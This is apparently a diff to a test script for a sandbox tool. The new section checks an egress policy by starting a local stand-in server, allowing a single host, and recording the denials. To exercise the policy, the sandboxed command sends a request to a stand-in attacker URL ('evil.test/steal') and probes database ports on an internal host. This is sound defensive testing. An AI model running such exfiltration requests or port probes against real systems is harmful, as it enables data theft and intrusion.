@@ -40,3 +40,26 @@ say "3. limits: a memory bomb under --memory 64M, a timeout of 1 s"
 
 say "4. ordinary work still works"
 "$CORRAL" run --workspace "$WS" -- /bin/sh -c 'python3 hello.py && echo "int main(){return 0;}" > t.c && gcc t.c -o t && ./t && echo "  compiled and ran a C program" && git init -q && echo "  git init ok"'
+
+say "5. egress by name: a server on this machine's loopback plays \"the internet\""
+PORTFILE=$WS/port
+/usr/bin/python3 "$(dirname "$0")/fixtures.py" http "$PORTFILE" >/dev/null 2>&1 &
+SRV=$!
+for _ in $(seq 1 100); do [ -s "$PORTFILE" ] && break; sleep 0.05; done
+PORT=$(cat "$PORTFILE")
+printf '{"network": {"mode": "proxy", "allow": ["pypi.test:%s"], "hosts": {"pypi.test": "127.0.0.1"}},\n "abort": {"max_distinct_denied_destinations": 3, "window_seconds": 10}}\n' "$PORT" > "$WS/net.json"
+chmod 644 "$WS/net.json"
+echo "  policy: allow pypi.test:$PORT only; halt after 3 distinct denied destinations"
+"$CORRAL" run --json --policy "$WS/net.json" --events "$WS/events.jsonl" -- /bin/sh -c "
+	curl -s http://pypi.test:$PORT/simple/
+	curl -s http://evil.test/steal
+	for p in 22 25 3306 5432 6379; do curl -s -m 2 http://db.internal.test:\$p/ >/dev/null; done
+	sleep 10" | /usr/bin/python3 -c '
+import json, sys
+r = json.load(sys.stdin)
+print("  stdout:", r["stdout"].strip().replace("\n", "\n          "))
+print("  status:", r["status"], "-", r["reason"])
+for d in r["denials"][:4]:
+    print("  denied:", d["host"] + ":" + str(d["port"]), "-", d["reason"])'
+kill "$SRV" 2>/dev/null; wait "$SRV" 2>/dev/null
+echo "  the event log verifies:"; "$CORRAL" audit verify "$WS/events.jsonl" | sed 's/^/  /'
